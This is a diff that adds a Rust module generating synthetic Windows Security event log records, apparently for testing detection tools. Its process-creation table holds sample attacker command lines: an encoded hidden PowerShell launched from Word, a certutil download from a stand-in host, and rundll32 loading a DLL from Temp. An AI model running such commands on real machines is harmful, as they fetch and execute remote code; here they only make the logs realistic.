@@ -1,0 +1,776 @@
+//! Ground truth of generated events: the System block and the EventData items of each
+//! event id, in the order Windows Server 2019 and 2022 write them.
+
+use super::variant as v;
+use crate::fields::Fields;
+use crate::seed::{fnv1a, EventRng};
+use crate::sources::GenContext;
+use crate::timestamp::Timestamp;
+use crate::world::{Host, HostRole, User, World};
+
+/// The Security auditing provider.
+pub const SECURITY_PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
+const SECURITY_GUID: &str = "{54849625-5478-4994-A5BA-3E3B0328C30D}";
+/// The event log service provider, which writes 1102.
+pub const EVENTLOG_PROVIDER: &str = "Microsoft-Windows-Eventlog";
+const EVENTLOG_GUID: &str = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}";
+
+/// Keywords of a successful audit event.
+const AUDIT_SUCCESS: &str = "0x8020000000000000";
+/// Keywords of a failed audit event.
+const AUDIT_FAILURE: &str = "0x8010000000000000";
+
+/// `%%1833`: the Impersonation impersonation level.
+const IMPERSONATION: &str = "%%1833";
+/// `%%1842`: Yes; `%%1843`: No.
+const YES: &str = "%%1842";
+const NO: &str = "%%1843";
+const NULL_SID: &str = "S-1-0-0";
+const SYSTEM_SID: &str = "S-1-5-18";
+const ZERO_GUID: &str = "{00000000-0000-0000-0000-000000000000}";
+
+/// Privileges Windows lists in 4672 for an administrator logon, separated as Windows
+/// separates them (CR LF and three tabs).
+const ADMIN_PRIVILEGES: &str = "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege";
+const SYSTEM_PRIVILEGES: &str = "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege";
+
+/// The System values that differ between event ids.
+struct Header {
+    event_id: i64,
+    version: i64,
+    task: i64,
+    keywords: &'static str,
+    /// Whether the event carries a `Correlation ActivityID`, as the logon events do.
+    activity: bool,
+}
+
+/// Fills the fields of one event of `ctx.variant`.
+pub fn fill(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    match ctx.variant {
+        v::INTERACTIVE | v::UNLOCK | v::CACHED_INTERACTIVE | v::REMOTE_INTERACTIVE | v::NETWORK | v::SERVICE => logon(ctx, fields),
+        v::LOGON_FAILED => logon_failed(ctx, fields),
+        v::LOGOFF => logoff(ctx, fields),
+        v::EXPLICIT_CREDENTIALS => explicit_credentials(ctx, fields),
+        v::SPECIAL_PRIVILEGES => special_privileges(ctx, fields),
+        v::PROCESS_CREATED => process_created(ctx, fields),
+        v::USER_CREATED | v::USER_DELETED => user_created_or_deleted(ctx, fields),
+        v::GROUP_MEMBER_ADDED => group_member_added(ctx, fields),
+        v::LOG_CLEARED => log_cleared(ctx, fields),
+        v::KERBEROS_TGT => kerberos_tgt(ctx, fields),
+        v::KERBEROS_SERVICE_TICKET => kerberos_service_ticket(ctx, fields),
+        _ => {
+            debug_assert_eq!(ctx.variant, v::NTLM_VALIDATION);
+            ntlm_validation(ctx, fields);
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Entities
+
+fn guid(rng: &mut EventRng) -> String {
+    format!("{{{}}}", rng.uuid().to_ascii_uppercase())
+}
+
+fn logon_id(rng: &mut EventRng) -> String {
+    format!("0x{:x}", rng.range(0x2_0000, 0x3_ffff_ffff))
+}
+
+/// Returns a process id as Windows writes it in EventData: lower-case hexadecimal, a multiple of 4.
+fn hex_pid(rng: &mut EventRng) -> String {
+    format!("0x{:x}", rng.range(0x40, 0x3fff) * 4)
+}
+
+/// Picks a user whose workstation runs Windows, and returns both.
+fn windows_user<'w>(world: &'w World, rng: &mut EventRng) -> (&'w User, &'w Host) {
+    for _ in 0..16 {
+        let index = rng.index(world.users.len());
+        let host = world.workstation_of(index);
+        if host.windows {
+            return (&world.users[index], host);
+        }
+    }
+    let host = world.hosts.iter().find(|h| h.windows && h.role == HostRole::Workstation).unwrap_or(&world.hosts[0]);
+    (&world.users[host.owner.unwrap_or(0)], host)
+}
+
+/// Picks a Windows member server, or a domain controller when the world has none.
+fn windows_server<'w>(world: &'w World, rng: &mut EventRng) -> &'w Host {
+    let servers: Vec<&Host> = world.servers().iter().filter(|h| h.windows && h.role == HostRole::Server).collect();
+    if servers.is_empty() {
+        domain_controller(world, rng)
+    } else {
+        servers[rng.index(servers.len())]
+    }
+}
+
+fn domain_controller<'w>(world: &'w World, rng: &mut EventRng) -> &'w Host {
+    let controllers: Vec<&Host> = world.servers().iter().filter(|h| h.role == HostRole::DomainController).collect();
+    if controllers.is_empty() {
+        &world.hosts[0]
+    } else {
+        controllers[rng.index(controllers.len())]
+    }
+}
+
+/// Picks an administrator, for events that only administrators cause.
+fn admin_user<'w>(world: &'w World, rng: &mut EventRng) -> &'w User {
+    for _ in 0..16 {
+        let user = rng.pick(&world.users);
+        if user.admin {
+            return user;
+        }
+    }
+    &world.users[0]
+}
+
+fn fqdn_upper(world: &World) -> String {
+    world.domain.to_ascii_uppercase()
+}
+
+// ---------------------------------------------------------------------------------------------
+// System
+
+fn system(ctx: &mut GenContext<'_>, fields: &mut Fields, header: &Header, host: &Host) {
+    let (provider, provider_guid) = if header.event_id == 1102 {
+        (EVENTLOG_PROVIDER, EVENTLOG_GUID)
+    } else {
+        (SECURITY_PROVIDER, SECURITY_GUID)
+    };
+    // Windows stores TimeCreated in 100-nanosecond units and renders nine digits.
+    let time = Timestamp(ctx.time.0 - ctx.time.0.rem_euclid(100));
+    // lsass.exe writes the Security events and keeps its process id until a reboot.
+    let lsass = 500 + (fnv1a(host.hostname.as_bytes()) % 300) as i64 * 4;
+    let process_id = if header.event_id == 1102 { lsass + 780 } else { lsass };
+
+    fields.str("Provider.Name", provider);
+    fields.str("Provider.Guid", provider_guid);
+    fields.int("EventID", header.event_id);
+    fields.int("Version", header.version);
+    fields.int("Level", if header.event_id == 1102 { 4 } else { 0 });
+    fields.int("Task", header.task);
+    fields.int("Opcode", 0);
+    fields.str("Keywords", header.keywords);
+    fields.with("TimeCreated.SystemTime", |out| time.write_rfc3339(out, 9));
+    fields.int("EventRecordID", 4_000_000 + ctx.index as i64 * 5 + ctx.rng.below(5) as i64);
+    if header.activity {
+        let activity = guid(&mut ctx.rng);
+        fields.str("Correlation.ActivityID", &activity);
+    }
+    fields.int("Execution.ProcessID", process_id);
+    fields.int("Execution.ThreadID", ctx.rng.range(100, 9000) as i64 * 4);
+    fields.str("Channel", "Security");
+    // Windows keeps the NetBIOS-style upper-case host name in front of the DNS domain.
+    fields.fmt("Computer", format_args!("{}.{}", host.hostname, ctx.world.domain));
+}
+
+/// Fills the Subject of events a machine raises for itself: the computer account in the
+/// SYSTEM logon session.
+fn subject_system(fields: &mut Fields, world: &World, host: &Host) {
+    fields.str("EventData.SubjectUserSid", SYSTEM_SID);
+    fields.fmt("EventData.SubjectUserName", format_args!("{}$", host.hostname));
+    fields.str("EventData.SubjectDomainName", &world.netbios_domain);
+    fields.str("EventData.SubjectLogonId", "0x3e7");
+}
+
+fn subject_user(fields: &mut Fields, world: &World, user: &User, rng: &mut EventRng) {
+    fields.str("EventData.SubjectUserSid", &user.sid);
+    fields.str("EventData.SubjectUserName", &user.username);
+    fields.str("EventData.SubjectDomainName", &world.netbios_domain);
+    let id = logon_id(rng);
+    fields.str("EventData.SubjectLogonId", &id);
+}
+
+fn subject_null(fields: &mut Fields) {
+    fields.str("EventData.SubjectUserSid", NULL_SID);
+    fields.str("EventData.SubjectUserName", "-");
+    fields.str("EventData.SubjectDomainName", "-");
+    fields.str("EventData.SubjectLogonId", "0x0");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Logon and logoff
+
+/// The fields of a 4624 that depend on the logon type.
+struct LogonShape {
+    logon_type: &'static str,
+    process_name: &'static str,
+    package: &'static str,
+    ntlm: bool,
+}
+
+fn logon(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4624,
+        version: 2,
+        task: 12544,
+        keywords: AUDIT_SUCCESS,
+        activity: true,
+    };
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    let (host, shape) = match ctx.variant {
+        v::NETWORK => {
+            let host = if ctx.rng.chance(600) { windows_server(world, &mut ctx.rng) } else { domain_controller(world, &mut ctx.rng) };
+            let ntlm = ctx.rng.chance(250);
+            let (process_name, package) = if ntlm { ("NtLmSsp ", "NTLM") } else { ("Kerberos", "Kerberos") };
+            (host, LogonShape { logon_type: "3", process_name, package, ntlm })
+        }
+        v::SERVICE => {
+            let host = if ctx.rng.chance(500) { workstation } else { windows_server(world, &mut ctx.rng) };
+            (host, LogonShape { logon_type: "5", process_name: "Advapi  ", package: "Negotiate", ntlm: false })
+        }
+        v::REMOTE_INTERACTIVE => {
+            let host = windows_server(world, &mut ctx.rng);
+            (host, LogonShape { logon_type: "10", process_name: "User32 ", package: "Negotiate", ntlm: false })
+        }
+        other => {
+            let logon_type = match other {
+                v::UNLOCK => "7",
+                v::CACHED_INTERACTIVE => "11",
+                _ => "2",
+            };
+            (workstation, LogonShape { logon_type, process_name: "User32 ", package: "Negotiate", ntlm: false })
+        }
+    };
+    system(ctx, fields, &header, host);
+
+    // Service logons run as a built-in account most of the time.
+    let service_account = match ctx.rng.below(10) {
+        0..=4 => Some((SYSTEM_SID, "SYSTEM", "0x3e7")),
+        5..=6 => Some(("S-1-5-20", "NETWORK SERVICE", "0x3e4")),
+        7 => Some(("S-1-5-19", "LOCAL SERVICE", "0x3e5")),
+        _ => None,
+    };
+    match shape.logon_type {
+        "3" => subject_null(fields),
+        _ => subject_system(fields, world, host),
+    }
+    let target_logon = logon_id(&mut ctx.rng);
+    match (shape.logon_type, service_account) {
+        ("5", Some((sid, name, id))) => {
+            fields.str("EventData.TargetUserSid", sid);
+            fields.str("EventData.TargetUserName", name);
+            fields.str("EventData.TargetDomainName", "NT AUTHORITY");
+            fields.str("EventData.TargetLogonId", id);
+        }
+        ("5", None) => {
+            let suffix = ctx.rng.range(1200, 1299);
+            fields.fmt("EventData.TargetUserSid", format_args!("{}-{suffix}", world.domain_sid));
+            fields.str("EventData.TargetUserName", ctx.rng.pick_str(&["svc_sql", "svc_backup", "svc_iis", "svc_monitor"]));
+            fields.str("EventData.TargetDomainName", &world.netbios_domain);
+            fields.str("EventData.TargetLogonId", &target_logon);
+        }
+        _ => {
+            fields.str("EventData.TargetUserSid", &user.sid);
+            fields.str("EventData.TargetUserName", &user.username);
+            fields.str("EventData.TargetDomainName", &world.netbios_domain);
+            fields.str("EventData.TargetLogonId", &target_logon);
+        }
+    }
+    fields.str("EventData.LogonType", shape.logon_type);
+    fields.str("EventData.LogonProcessName", shape.process_name);
+    fields.str("EventData.AuthenticationPackageName", shape.package);
+
+    let interactive = matches!(shape.logon_type, "2" | "7" | "10" | "11");
+    let workstation_name = match shape.logon_type {
+        "3" if shape.ntlm => workstation.hostname.as_str(),
+        "3" | "5" => "-",
+        _ => host.hostname.as_str(),
+    };
+    fields.str("EventData.WorkstationName", workstation_name);
+    let logon_guid = if shape.ntlm || matches!(shape.logon_type, "5" | "11") { ZERO_GUID.to_string() } else { guid(&mut ctx.rng) };
+    fields.str("EventData.LogonGuid", &logon_guid);
+    fields.str("EventData.TransmittedServices", "-");
+    fields.str("EventData.LmPackageName", if shape.ntlm { "NTLM V2" } else { "-" });
+    fields.str("EventData.KeyLength", if shape.ntlm { "128" } else { "0" });
+    match shape.logon_type {
+        "3" => {
+            fields.str("EventData.ProcessId", "0x0");
+            fields.str("EventData.ProcessName", "-");
+        }
+        "5" => {
+            let services = 0x270 + ctx.rng.below(0x40) * 4;
+            fields.fmt("EventData.ProcessId", format_args!("0x{services:x}"));
+            fields.str("EventData.ProcessName", "C:\\Windows\\System32\\services.exe");
+        }
+        _ => {
+            let pid = hex_pid(&mut ctx.rng);
+            fields.str("EventData.ProcessId", &pid);
+            fields.str("EventData.ProcessName", "C:\\Windows\\System32\\svchost.exe");
+        }
+    }
+    match shape.logon_type {
+        "3" => {
+            fields.fmt("EventData.IpAddress", format_args!("{}", workstation.ip));
+            fields.fmt("EventData.IpPort", format_args!("{}", ctx.rng.range(49_152, 65_535)));
+        }
+        "10" => {
+            fields.fmt("EventData.IpAddress", format_args!("{}", workstation.ip));
+            fields.str("EventData.IpPort", "0");
+        }
+        "5" => {
+            fields.str("EventData.IpAddress", "-");
+            fields.str("EventData.IpPort", "-");
+        }
+        _ => {
+            fields.str("EventData.IpAddress", "127.0.0.1");
+            fields.str("EventData.IpPort", "0");
+        }
+    }
+    fields.str("EventData.ImpersonationLevel", IMPERSONATION);
+    fields.str("EventData.RestrictedAdminMode", if shape.logon_type == "10" { NO } else { "-" });
+    fields.str("EventData.TargetOutboundUserName", "-");
+    fields.str("EventData.TargetOutboundDomainName", "-");
+    fields.str("EventData.VirtualAccount", NO);
+    // An administrator's interactive logon gets a split token: two linked logon sessions.
+    let elevated = shape.logon_type == "5" || user.admin;
+    let linked = if interactive && user.admin { logon_id(&mut ctx.rng) } else { "0x0".to_string() };
+    fields.str("EventData.TargetLinkedLogonId", &linked);
+    fields.str("EventData.ElevatedToken", if elevated { YES } else { NO });
+}
+
+/// The NTSTATUS pairs of a failed logon, with the FailureReason message id and a weight.
+const FAILURES: &[(&str, &str, &str, u32)] = &[
+    ("0xc000006d", "0xc000006a", "%%2313", 60),
+    ("0xc000006d", "0xc0000064", "%%2313", 25),
+    ("0xc0000234", "0x0", "%%2307", 8),
+    ("0xc000006e", "0xc0000072", "%%2310", 4),
+    ("0xc000006e", "0xc0000070", "%%2311", 3),
+];
+
+const GUESSED_NAMES: &[&str] = &["administrator", "admin", "test", "user", "guest", "scanner", "backup", "sqladmin"];
+
+fn logon_failed(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4625,
+        version: 0,
+        task: 12544,
+        keywords: AUDIT_FAILURE,
+        activity: true,
+    };
+    let weights: Vec<u32> = FAILURES.iter().map(|f| f.3).collect();
+    let (status, sub_status, reason, _) = FAILURES[ctx.rng.weighted(&weights)];
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    let network = ctx.rng.chance(700);
+    let host = if network { windows_server(world, &mut ctx.rng) } else { workstation };
+    system(ctx, fields, &header, host);
+
+    if network {
+        subject_null(fields);
+    } else {
+        subject_system(fields, world, host);
+    }
+    fields.str("EventData.TargetUserSid", NULL_SID);
+    let name = if sub_status == "0xc0000064" { ctx.rng.pick_str(GUESSED_NAMES) } else { user.username.as_str() };
+    fields.str("EventData.TargetUserName", name);
+    fields.str("EventData.TargetDomainName", &world.netbios_domain);
+    fields.str("EventData.Status", status);
+    fields.str("EventData.FailureReason", reason);
+    fields.str("EventData.SubStatus", sub_status);
+    if network {
+        // Password spraying and RDP brute force arrive from outside as NTLM network logons.
+        let external = ctx.rng.chance(400);
+        fields.str("EventData.LogonType", "3");
+        fields.str("EventData.LogonProcessName", "NtLmSsp ");
+        fields.str("EventData.AuthenticationPackageName", "NTLM");
+        let client = if external { "-".to_string() } else { workstation.hostname.clone() };
+        fields.str("EventData.WorkstationName", &client);
+        fields.str("EventData.TransmittedServices", "-");
+        fields.str("EventData.LmPackageName", "-");
+        fields.str("EventData.KeyLength", "0");
+        fields.str("EventData.ProcessId", "0x0");
+        fields.str("EventData.ProcessName", "-");
+        let address = if external { *ctx.rng.pick(&world.external_addresses) } else { workstation.ip };
+        fields.fmt("EventData.IpAddress", format_args!("{address}"));
+        fields.fmt("EventData.IpPort", format_args!("{}", ctx.rng.range(49_152, 65_535)));
+    } else {
+        fields.str("EventData.LogonType", "2");
+        fields.str("EventData.LogonProcessName", "User32 ");
+        fields.str("EventData.AuthenticationPackageName", "Negotiate");
+        fields.str("EventData.WorkstationName", &host.hostname);
+        fields.str("EventData.TransmittedServices", "-");
+        fields.str("EventData.LmPackageName", "-");
+        fields.str("EventData.KeyLength", "0");
+        let pid = hex_pid(&mut ctx.rng);
+        fields.str("EventData.ProcessId", &pid);
+        fields.str("EventData.ProcessName", "C:\\Windows\\System32\\svchost.exe");
+        fields.str("EventData.IpAddress", "127.0.0.1");
+        fields.str("EventData.IpPort", "0");
+    }
+}
+
+fn logoff(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4634,
+        version: 0,
+        task: 12545,
+        keywords: AUDIT_SUCCESS,
+        activity: false,
+    };
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    let network = ctx.rng.chance(800);
+    let host = if network { windows_server(world, &mut ctx.rng) } else { workstation };
+    system(ctx, fields, &header, host);
+    fields.str("EventData.TargetUserSid", &user.sid);
+    fields.str("EventData.TargetUserName", &user.username);
+    fields.str("EventData.TargetDomainName", &world.netbios_domain);
+    let id = logon_id(&mut ctx.rng);
+    fields.str("EventData.TargetLogonId", &id);
+    fields.str("EventData.LogonType", if network { "3" } else { ctx.rng.pick_str(&["2", "7", "11"]) });
+}
+
+fn explicit_credentials(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4648,
+        version: 0,
+        task: 12544,
+        keywords: AUDIT_SUCCESS,
+        activity: true,
+    };
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    let server = windows_server(world, &mut ctx.rng);
+    let target = admin_user(world, &mut ctx.rng);
+    system(ctx, fields, &header, workstation);
+
+    subject_user(fields, world, user, &mut ctx.rng);
+    fields.str("EventData.LogonGuid", ZERO_GUID);
+    fields.fmt("EventData.TargetUserName", format_args!("adm-{}", target.username));
+    fields.str("EventData.TargetDomainName", &world.netbios_domain);
+    let target_guid = guid(&mut ctx.rng);
+    fields.str("EventData.TargetLogonGuid", &target_guid);
+    // Remote Desktop with saved credentials, or RunAs through the Secondary Logon service.
+    if ctx.rng.chance(600) {
+        fields.str("EventData.TargetServerName", &server.hostname);
+        fields.fmt("EventData.TargetInfo", format_args!("TERMSRV/{}", server.fqdn));
+        let pid = hex_pid(&mut ctx.rng);
+        fields.str("EventData.ProcessId", &pid);
+        fields.str("EventData.ProcessName", "C:\\Windows\\System32\\mstsc.exe");
+        fields.str("EventData.IpAddress", "-");
+        fields.str("EventData.IpPort", "-");
+    } else {
+        fields.str("EventData.TargetServerName", "localhost");
+        fields.str("EventData.TargetInfo", "localhost");
+        let pid = hex_pid(&mut ctx.rng);
+        fields.str("EventData.ProcessId", &pid);
+        fields.str("EventData.ProcessName", "C:\\Windows\\System32\\svchost.exe");
+        fields.str("EventData.IpAddress", "::1");
+        fields.str("EventData.IpPort", "0");
+    }
+}
+
+fn special_privileges(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4672,
+        version: 0,
+        task: 12548,
+        keywords: AUDIT_SUCCESS,
+        activity: true,
+    };
+    let (_, workstation) = windows_user(world, &mut ctx.rng);
+    let host = if ctx.rng.chance(500) { workstation } else { windows_server(world, &mut ctx.rng) };
+    system(ctx, fields, &header, host);
+    if ctx.rng.chance(650) {
+        fields.str("EventData.SubjectUserSid", SYSTEM_SID);
+        fields.str("EventData.SubjectUserName", "SYSTEM");
+        fields.str("EventData.SubjectDomainName", "NT AUTHORITY");
+        fields.str("EventData.SubjectLogonId", "0x3e7");
+        fields.str("EventData.PrivilegeList", SYSTEM_PRIVILEGES);
+    } else {
+        let admin = admin_user(world, &mut ctx.rng);
+        subject_user(fields, world, admin, &mut ctx.rng);
+        fields.str("EventData.PrivilegeList", ADMIN_PRIVILEGES);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Process creation
+
+/// One kind of process start: parent image, new image, command line (`{user}` stands for
+/// the user name), whether SYSTEM starts it, TokenElevationType, mandatory label, weight.
+struct ProcessStart {
+    parent: &'static str,
+    image: &'static str,
+    command_line: &'static str,
+    system: bool,
+    elevation: &'static str,
+    label: &'static str,
+    weight: u32,
+}
+
+const EXPLORER: &str = "C:\\Windows\\explorer.exe";
+const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
+const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
+const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
+const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+const WINWORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
+/// `%%1936` full token, `%%1937` elevated token, `%%1938` limited token.
+const FULL: &str = "%%1936";
+const ELEVATED: &str = "%%1937";
+const LIMITED: &str = "%%1938";
+const MEDIUM: &str = "S-1-16-8192";
+const HIGH: &str = "S-1-16-12288";
+const SYSTEM_LABEL: &str = "S-1-16-16384";
+
+const PROCESS_STARTS: &[ProcessStart] = &[
+    ProcessStart { parent: EXPLORER, image: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", command_line: "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", system: false, elevation: LIMITED, label: MEDIUM, weight: 20 },
+    ProcessStart { parent: EXPLORER, image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", command_line: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", system: false, elevation: LIMITED, label: MEDIUM, weight: 10 },
+    ProcessStart { parent: EXPLORER, image: "C:\\Windows\\System32\\notepad.exe", command_line: "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\Documents\\notes.txt", system: false, elevation: LIMITED, label: MEDIUM, weight: 6 },
+    ProcessStart { parent: EXPLORER, image: CMD, command_line: "\"C:\\Windows\\system32\\cmd.exe\" ", system: false, elevation: LIMITED, label: MEDIUM, weight: 5 },
+    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\ipconfig.exe", command_line: "ipconfig  /all", system: false, elevation: LIMITED, label: MEDIUM, weight: 3 },
+    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\whoami.exe", command_line: "whoami  /groups", system: false, elevation: LIMITED, label: MEDIUM, weight: 2 },
+    ProcessStart { parent: SERVICES, image: SVCHOST, command_line: "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system: true, elevation: FULL, label: SYSTEM_LABEL, weight: 15 },
+    ProcessStart { parent: SVCHOST, image: "C:\\Windows\\System32\\taskhostw.exe", command_line: "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", system: false, elevation: LIMITED, label: MEDIUM, weight: 8 },
+    ProcessStart { parent: SVCHOST, image: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", command_line: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", system: true, elevation: FULL, label: SYSTEM_LABEL, weight: 6 },
+    ProcessStart { parent: SERVICES, image: "C:\\Program Files\\Windows Defender\\MsMpEng.exe", command_line: "\"C:\\Program Files\\Windows Defender\\MsMpEng.exe\"", system: true, elevation: FULL, label: SYSTEM_LABEL, weight: 2 },
+    ProcessStart { parent: EXPLORER, image: POWERSHELL, command_line: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", system: false, elevation: ELEVATED, label: HIGH, weight: 3 },
+    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\net.exe", command_line: "net  group \"Domain Admins\" /domain", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
+    ProcessStart { parent: WINWORD, image: POWERSHELL, command_line: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
+    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\certutil.exe", command_line: "certutil  -urlcache -split -f http://files-share.example.com/update.exe C:\\Users\\Public\\update.exe", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
+    ProcessStart { parent: POWERSHELL, image: "C:\\Windows\\System32\\rundll32.exe", command_line: "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Users\\{user}\\AppData\\Local\\Temp\\lib.dll,Start", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
+];
+
+fn process_created(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4688,
+        version: 2,
+        task: 13312,
+        keywords: AUDIT_SUCCESS,
+        activity: false,
+    };
+    let weights: Vec<u32> = PROCESS_STARTS.iter().map(|p| p.weight).collect();
+    let start = &PROCESS_STARTS[ctx.rng.weighted(&weights)];
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    let host = if start.system && ctx.rng.chance(400) { windows_server(world, &mut ctx.rng) } else { workstation };
+    system(ctx, fields, &header, host);
+
+    if start.system {
+        subject_system(fields, world, host);
+    } else {
+        subject_user(fields, world, user, &mut ctx.rng);
+    }
+    let child = hex_pid(&mut ctx.rng);
+    fields.str("EventData.NewProcessId", &child);
+    fields.str("EventData.NewProcessName", start.image);
+    fields.str("EventData.TokenElevationType", start.elevation);
+    let parent = hex_pid(&mut ctx.rng);
+    fields.str("EventData.ProcessId", &parent);
+    fields.with("EventData.CommandLine", |out| out.push_str(&start.command_line.replace("{user}", &user.username)));
+    fields.str("EventData.TargetUserSid", NULL_SID);
+    fields.str("EventData.TargetUserName", "-");
+    fields.str("EventData.TargetDomainName", "-");
+    fields.str("EventData.TargetLogonId", "0x0");
+    fields.str("EventData.ParentProcessName", start.parent);
+    fields.str("EventData.MandatoryLabel", start.label);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Account and group management
+
+fn user_created_or_deleted(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let created = ctx.variant == v::USER_CREATED;
+    let header = Header {
+        event_id: if created { 4720 } else { 4726 },
+        version: 0,
+        task: 13824,
+        keywords: AUDIT_SUCCESS,
+        activity: false,
+    };
+    let host = domain_controller(world, &mut ctx.rng);
+    let admin = admin_user(world, &mut ctx.rng);
+    let account = ctx.rng.pick(&world.users);
+    system(ctx, fields, &header, host);
+
+    fields.str("EventData.TargetUserName", &account.username);
+    fields.str("EventData.TargetDomainName", &world.netbios_domain);
+    fields.str("EventData.TargetSid", &account.sid);
+    subject_user(fields, world, admin, &mut ctx.rng);
+    fields.str("EventData.PrivilegeList", "-");
+    if !created {
+        return;
+    }
+    fields.str("EventData.SamAccountName", &account.username);
+    fields.str("EventData.DisplayName", &account.display_name);
+    fields.str("EventData.UserPrincipalName", &account.email);
+    for name in [
+        "EventData.HomeDirectory",
+        "EventData.HomePath",
+        "EventData.ScriptPath",
+        "EventData.ProfilePath",
+        "EventData.UserWorkstations",
+    ] {
+        fields.str(name, "-");
+    }
+    fields.str("EventData.PasswordLastSet", "%%1794");
+    fields.str("EventData.AccountExpires", "%%1794");
+    fields.str("EventData.PrimaryGroupId", "513");
+    fields.str("EventData.AllowedToDelegateTo", "-");
+    fields.str("EventData.OldUacValue", "0x0");
+    fields.str("EventData.NewUacValue", "0x15");
+    fields.str("EventData.UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084");
+    fields.str("EventData.UserParameters", "%%1793");
+    fields.str("EventData.SidHistory", "-");
+    fields.str("EventData.LogonHours", "%%1797");
+}
+
+/// Built-in local groups that members are added to: name and SID.
+const LOCAL_GROUPS: &[(&str, &str)] = &[
+    ("Administrators", "S-1-5-32-544"),
+    ("Remote Desktop Users", "S-1-5-32-555"),
+    ("Backup Operators", "S-1-5-32-551"),
+    ("Event Log Readers", "S-1-5-32-573"),
+];
+
+fn group_member_added(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4732,
+        version: 0,
+        task: 13826,
+        keywords: AUDIT_SUCCESS,
+        activity: false,
+    };
+    let host = if ctx.rng.chance(500) { domain_controller(world, &mut ctx.rng) } else { windows_server(world, &mut ctx.rng) };
+    let admin = admin_user(world, &mut ctx.rng);
+    let member = ctx.rng.pick(&world.users);
+    let (group, group_sid) = *ctx.rng.pick(LOCAL_GROUPS);
+    system(ctx, fields, &header, host);
+
+    let domain_components: Vec<String> = world.domain.split('.').map(|part| format!("DC={part}")).collect();
+    fields.fmt(
+        "EventData.MemberName",
+        format_args!("CN={},OU={},OU=Users,{}", member.display_name, member.department, domain_components.join(",")),
+    );
+    fields.str("EventData.MemberSid", &member.sid);
+    fields.str("EventData.TargetUserName", group);
+    fields.str("EventData.TargetDomainName", "Builtin");
+    fields.str("EventData.TargetSid", group_sid);
+    subject_user(fields, world, admin, &mut ctx.rng);
+    fields.str("EventData.PrivilegeList", "-");
+}
+
+fn log_cleared(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 1102,
+        version: 0,
+        task: 104,
+        keywords: "0x4020000000000000",
+        activity: false,
+    };
+    let (_, workstation) = windows_user(world, &mut ctx.rng);
+    let host = if ctx.rng.chance(500) { workstation } else { windows_server(world, &mut ctx.rng) };
+    let admin = admin_user(world, &mut ctx.rng);
